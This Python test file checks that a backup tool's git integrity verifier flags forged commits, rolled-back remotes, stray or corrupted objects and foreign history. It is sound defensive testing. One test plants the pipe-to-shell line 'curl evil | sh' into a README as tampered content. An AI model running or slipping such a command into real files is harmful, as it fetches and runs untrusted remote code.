"""VERIFY-9 to VERIFY-16: each attack on the git witness, by the rule that stops it."""

from __future__ import annotations

import os
import time
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from savepoint import gitcmd
from savepoint.core.packs import compress
from savepoint.core.verdicts import CheckedSavepoint, Finding, Report, Verdict
from savepoint.core.verify_git import GIT_RULES, REMOTE_RULES
from savepoint.gitlayer import tree
from savepoint.gitlayer.commits import by_hand
from savepoint.gitlayer.remote.remote import Remote
from savepoint.gitlayer.repository import Repository
from savepoint.gitlayer.witness import check, witness
from savepoint.gitlayer.witness.witness import Look
from savepoint.store import config
from savepoint.store.witness.witness import verify_local
from tests.gitlayer.layer import SECONDS, Layer
from tests.gitlayer.remotes import Pushing
from tests.gitlayer.test_commit import append
from tests.verify import builder

if TYPE_CHECKING:
    from collections.abc import Callable

    from savepoint.core.record import Record

ALL = Look(whole=True)
TAMPERED, BACK = Verdict.TAMPERED, Verdict.ROLLED_BACK


@pytest.fixture
def layer(tmp_path: Path) -> Layer:
    """Savepoints 2 to 4."""
    layer = Layer.new(tmp_path)
    for number in range(1, 4):
        layer.saved(b"x\n" * number, loaded={"a.py": b"%d\n" % number})
    return layer


@pytest.fixture
def it(tmp_path: Path) -> Pushing:
    """Savepoints 2 and 3, pushed."""
    it = Pushing.new(tmp_path)
    it.saved(2)
    it.push()
    return it


def _report(
    layer: Layer, look: Look = ALL, asked: frozenset[int] | None = None, **env: str
) -> Report:
    """asked: sequences, None for all. Every rule says something of every savepoint."""
    store = layer.paths.store
    repo = Repository.of(store, {**os.environ, **env}, time.monotonic() + SECONDS)

    def select(saves: list[Record]) -> list[Record]:
        return [one for one in saves if asked is None or one.seq in asked]

    report = witness.verify(repo, layer.paths, verify_local(layer.paths, select), look)
    rules = {*GIT_RULES[: 5 if look.whole else 4]}
    rules |= {*REMOTE_RULES} if config.load(store).remote else set()
    for one in report.savepoints:
        assert rules <= {finding.rule for finding in one.witnesses["git"].findings}
    return report


def _git(report: Report, seq: int) -> dict[str, Finding]:
    """The worst finding of each rule for a savepoint."""
    (one,) = [one for one in report.savepoints if one.seq == seq]
    order = list(Verdict)
    found = sorted(one.witnesses["git"].findings, key=lambda f: -order.index(f.verdict))
    return {finding.rule: finding for finding in found}


def _verdicts(report: Report) -> dict[int, Verdict]:
    """Of the git witness of each savepoint."""

    def of(one: CheckedSavepoint) -> Verdict:
        return one.witnesses["git"].verdict

    return {one.seq: of(one) for one in report.savepoints}


def _only(report: Report, seq: int, rule: str, verdict: Verdict = TAMPERED) -> Finding:
    """That rule, and no other, fails for a savepoint."""
    failed = {name: one for name, one in _git(report, seq).items() if one.result == "fail"}
    assert set(failed) == {rule}
    assert failed[rule].verdict is verdict
    return failed[rule]


def test_all_rules_hold(it: Pushing) -> None:
    report = _report(it.layer)
    assert report.exit_code == 0
    for seq in (2, 3):
        assert list(_git(report, seq)) == sorted(
            (f"VERIFY-{n}" for n in range(9, 17)), key=list(_git(report, seq)).index
        )
        assert {one.result for one in _git(report, seq).values()} == {"pass"}


def test_verify_9_a_commit_that_was_taken_out(layer: Layer) -> None:
    first = layer.history()[0]
    layer.forge({}, parent=first)
    report = _report(layer)
    assert _verdicts(report) == {2: Verdict.VERIFIED, 3: TAMPERED, 4: Verdict.VERIFIED}
    assert _only(report, 3, "VERIFY-9").detail == "record 3 has no commit"


def test_verify_9_trailers_of_another_record(layer: Layer) -> None:
    older = layer.lines("log", "-1", "--format=%B", layer.history()[1])
    layer.forge({}, message="\n".join(older))
    assert _verdicts(_report(layer))[3] is TAMPERED


def test_verify_9_what_is_not_committed_yet_is_pending(layer: Layer) -> None:
    layer.save(b"later\n")
    report = _report(layer)
    assert report.exit_code == 3
    assert _verdicts(report)[5] is Verdict.PENDING
    assert _verdicts(report)[4] is Verdict.VERIFIED


def test_verify_10_doubled_and_merged_commits(layer: Layer) -> None:
    tip = layer.tip()
    layer.forge({}, parent=tip)
    assert "does not follow" in _only(_report(layer), 4, "VERIFY-10").detail
    layer.git("update-ref", layer.ref, tip)
    other = layer.git("commit-tree", f"{tip}^{{tree}}", "-m", "x").decode().strip()
    layer.forge({}, parent=f"{layer.history()[1]} {other}")
    assert "does not follow" in _only(_report(layer), 4, "VERIFY-10").detail


def _double_the_second(layer: Layer) -> None:
    """The commit of record 3 stands twice, that of record 4 on top of it."""
    tip, (first, second, _) = layer.tip(), layer.history()
    layer.git("update-ref", layer.ref, second)
    doubled = layer.forge({}, parent=second)
    layer.git("update-ref", layer.ref, tip)
    assert first != layer.forge({}, parent=doubled)


def _double_the_last(layer: Layer) -> None:
    layer.forge({}, parent=layer.tip())


@pytest.mark.parametrize(
    ("spoil", "at"), [(_double_the_second, 3), (_double_the_last, 4)], ids=["below", "tip"]
)
@pytest.mark.parametrize("asked", [2, 3, 4, None])
def test_verify_10_counts_for_every_savepoint_at_or_after_it(
    layer: Layer, spoil: Callable[[Layer], None], at: int, asked: int | None
) -> None:
    """`verify latest` said VERIFIED over a doubled commit below it, and had no VERIFY-10 at all."""
    spoil(layer)
    report = _report(layer, Look(), None if asked is None else frozenset({asked}))
    assert report.exit_code == 20  # also where it lies above all that was asked for, as of an index
    for seq, verdict in _verdicts(report).items():
        assert verdict is (TAMPERED if seq >= at else Verdict.VERIFIED)
        assert _git(report, seq)["VERIFY-10"].result == ("fail" if seq >= at else "pass")


def test_verify_10_counts_where_no_savepoint_comes_after_it(layer: Layer) -> None:
    """The commit of a retirement stands behind every savepoint."""
    append(layer, "retire")
    layer.commit()
    assert _report(layer).exit_code == 0
    _double_the_last(layer)
    report = _report(layer)
    assert (report.exit_code, report.git.verdict) == (20, TAMPERED)
    assert set(_verdicts(report).values()) == {Verdict.VERIFIED}


def test_verify_10_a_commit_of_nobody(layer: Layer) -> None:
    layer.forge({}, message="x\n", parent=layer.tip())
    report = _report(layer)
    assert set(_verdicts(report).values()) == {TAMPERED}


def test_verify_10_an_index_that_went_back(layer: Layer) -> None:
    layer.built.write_lines(*layer.built.lines[:-1])
    report = _report(layer)
    assert _only(report, 2, "VERIFY-10", BACK).detail.endswith("the index has not")
    assert report.git.verdict is BACK


def test_verify_10_a_savepoint_that_is_made_meanwhile_is_no_rollback(
    layer: Layer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Git was ahead of an index that had been read before."""
    list_branch = check._steps

    def late(repo: Repository, slug: str) -> list[check.Step]:
        layer.saved(b"meanwhile\n")
        return list_branch(repo, slug)

    monkeypatch.setattr(check, "_steps", late)
    assert _report(layer, Look()).exit_code == 0


def test_verify_11_another_index_a_changed_readme_and_a_file_too_many(layer: Layer) -> None:
    tip, older = layer.tip(), layer.tree(layer.history()[0])
    changes: list[dict[str, str | None]] = [
        {tree.OPEN_CHUNK: older[tree.OPEN_CHUNK]},
        {"README.md": layer.store_blob(by_hand.README + b"curl evil | sh\n")},
        {".github/workflows/x.yml": layer.store_blob(b"on: push\n")},
    ]
    for change in changes:
        layer.forge(change)
        _only(_report(layer), 4, "VERIFY-11")
        layer.git("update-ref", layer.ref, tip)


def _path(layer: Layer, start: str) -> str:
    return next(path for path in layer.tree(layer.tip()) if path.startswith(start))


@pytest.mark.parametrize("start", ["objects/", "logs/precompact-saves/", "RECOVER"])
def test_verify_12_content_of_somebody_else(layer: Layer, start: str) -> None:
    """The recipients are public: anybody can encrypt to them."""
    layer.forge({_path(layer, start): layer.seal(compress(b"other"))})
    _only(_report(layer), 4, "VERIFY-12")


def test_verify_12_a_snapshot_of_a_newer_version_is_not_tampered(
    layer: Layer, monkeypatch: pytest.MonkeyPatch
) -> None:
    """docs/format.md, section 12: a reader must not call it so."""
    with monkeypatch.context() as newer:
        builder.as_newer_version(newer)
        layer.saved(b"later\n")
    report = _report(layer)
    assert report.exit_code == 23
    assert _git(report, 5)["VERIFY-12"].unsupported
    assert _verdicts(report)[4] is Verdict.VERIFIED


def test_verify_12_a_pack_too_many(layer: Layer) -> None:
    layer.forge({tree.pack("ab" * 32): layer.seal(b"x")})
    assert "1 files that no savepoint has" in _only(_report(layer), 4, "VERIFY-12").detail


def test_verify_12_is_skipped_without_the_identity(layer: Layer) -> None:
    Path(layer.paths.store.age_identity).unlink()
    report = _report(layer)
    assert report.exit_code == 21
    for seq in (2, 3, 4):
        skipped = {n for n, one in _git(report, seq).items() if one.result == "skipped"}
        assert skipped == {"VERIFY-12"}
    assert "links and signatures hold" in report.hint


def test_verify_13_bytes_that_no_savepoint_needs(layer: Layer) -> None:
    layer.store_blob(b"stray")
    (loose,) = [p for p in layer.git_dir.glob("objects/??/*") if p.is_file()]
    loose.chmod(0o600)
    builder.flip(loose, loose.stat().st_size - 2)
    assert loose.parent.name + loose.name in _only(_report(layer), 4, "VERIFY-13").detail
    assert _report(layer, Look()).exit_code == 0


def test_verify_14_what_is_not_pushed_is_pending(it: Pushing) -> None:
    it.saved()
    report = _report(it.layer)
    assert report.exit_code == 3
    assert _git(report, 4)["VERIFY-14"].verdict is Verdict.PENDING
    assert _verdicts(report)[3] is Verdict.VERIFIED
    it.push()
    assert _report(it.layer).exit_code == 0


def test_verify_14_offline_away_and_without_an_answer(it: Pushing) -> None:
    assert _report(it.layer, Look(offline=True)).exit_code == 21
    it.bare.path.rename(it.bare.path.with_name("away"))
    report = _report(it.layer)
    assert report.exit_code == 21
    skipped = {n for n, one in _git(report, 3).items() if one.result == "skipped"}
    assert skipped == {"VERIFY-14", "VERIFY-15", "VERIFY-16"}


def test_verify_15_a_remote_that_was_put_back_emptied_or_replaced(it: Pushing) -> None:
    tip = it.bare.tip(it.slug)
    it.bare.put(it.slug, it.bare.git("rev-parse", f"{tip}~1"))
    assert "went back" in _only(_report(it.layer), 3, "VERIFY-15", BACK).detail
    it.bare.git("update-ref", "-d", f"refs/heads/savepoints/{it.slug}")
    assert "no branch" in _only(_report(it.layer), 3, "VERIFY-15", BACK).detail
    it.bare.put(it.slug, it.bare.foreign_commit(None))
    report = _report(it.layer)
    assert "was replaced" in _git(report, 3)["VERIFY-15"].detail
    assert report.exit_code == 22


def test_verify_15_memory_outside_the_store(it: Pushing) -> None:
    """The store was put back with its remote-tracking ref; the trusted head was not."""
    it.saved()
    it.push()
    tracking = it.layer.git_dir / "refs/remotes/origin/savepoints" / it.slug
    older = it.bare.git("rev-parse", f"{it.bare.tip(it.slug)}~1")
    tracking.write_text(f"{older}\n")
    it.bare.put(it.slug, older)
    assert _git(_report(it.layer), 2)["VERIFY-15"].verdict is BACK


def test_verify_15_a_push_meanwhile_is_no_rollback(
    it: Pushing, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What had been seen there was read after the remote was asked."""
    it.saved()
    ask, answers = Remote.tip, list[str | None]()

    def late(remote: Remote, slug: str) -> str | None:
        answer = ask(remote, slug)
        answers.append(answer)
        if len(answers) == 1:
            it.push()  # which asks as well
        return answer

    monkeypatch.setattr(Remote, "tip", late)
    assert _report(it.layer).exit_code == 3
    assert answers[0] != it.bare.tip(it.slug)


def test_verify_16_a_remote_that_is_ahead(it: Pushing) -> None:
    it.saved()
    it.push()
    layer = it.layer
    layer.git("update-ref", layer.ref, layer.history()[1])
    layer.built.write_lines(*layer.built.lines[:-1])
    report = _report(layer)
    assert "has records up to 4" in _git(report, 3)["VERIFY-16"].detail
    assert report.exit_code == 22


def test_verify_16_commits_that_are_not_ours(it: Pushing) -> None:
    it.bare.put(it.slug, it.bare.foreign_commit(it.bare.tip(it.slug)))
    assert _only(_report(it.layer), 3, "VERIFY-16", BACK)


def test_deep_sees_what_only_the_remote_has_lost(it: Pushing) -> None:
    it.bare.git("repack", "-adq")
    (pack,) = (it.bare.path / "objects/pack").glob("*.pack")
    pack.chmod(0o600)
    builder.flip(pack, pack.stat().st_size // 2)
    assert _report(it.layer).exit_code == 0
    assert _report(it.layer, Look(deep=True)).exit_code in (20, 21)


def test_deep_leaves_nothing_behind(it: Pushing) -> None:
    report = _report(it.layer, Look(deep=True))
    assert report.exit_code == 0
    details = [one.detail for one in report.savepoints[0].witnesses["git"].findings]
    assert sum(one.startswith("fresh clone: ") for one in details) >= 4
    assert list(Path(it.layer.paths.store.scratch).iterdir()) == []


def test_a_git_that_cannot_run_is_unverifiable(layer: Layer, tmp_path: Path) -> None:
    assert _report(layer, PATH=str(tmp_path)).exit_code == 21


def test_the_number_of_git_processes_does_not_grow(
    it: Pushing, monkeypatch: pytest.MonkeyPatch
) -> None:
    it.saved(38)  # a closed chunk of the index as well
    it.push()
    real, started = gitcmd.start, []

    def counting(args: tuple[str, ...], **more: object) -> gitcmd.Running:
        started.append(args)
        return real(args, **more)  # type: ignore[arg-type]

    monkeypatch.setattr(gitcmd, "start", counting)
    report = _report(it.layer)
    assert (report.exit_code, len(report.savepoints)) == (0, 40)
    assert len(started) <= 20
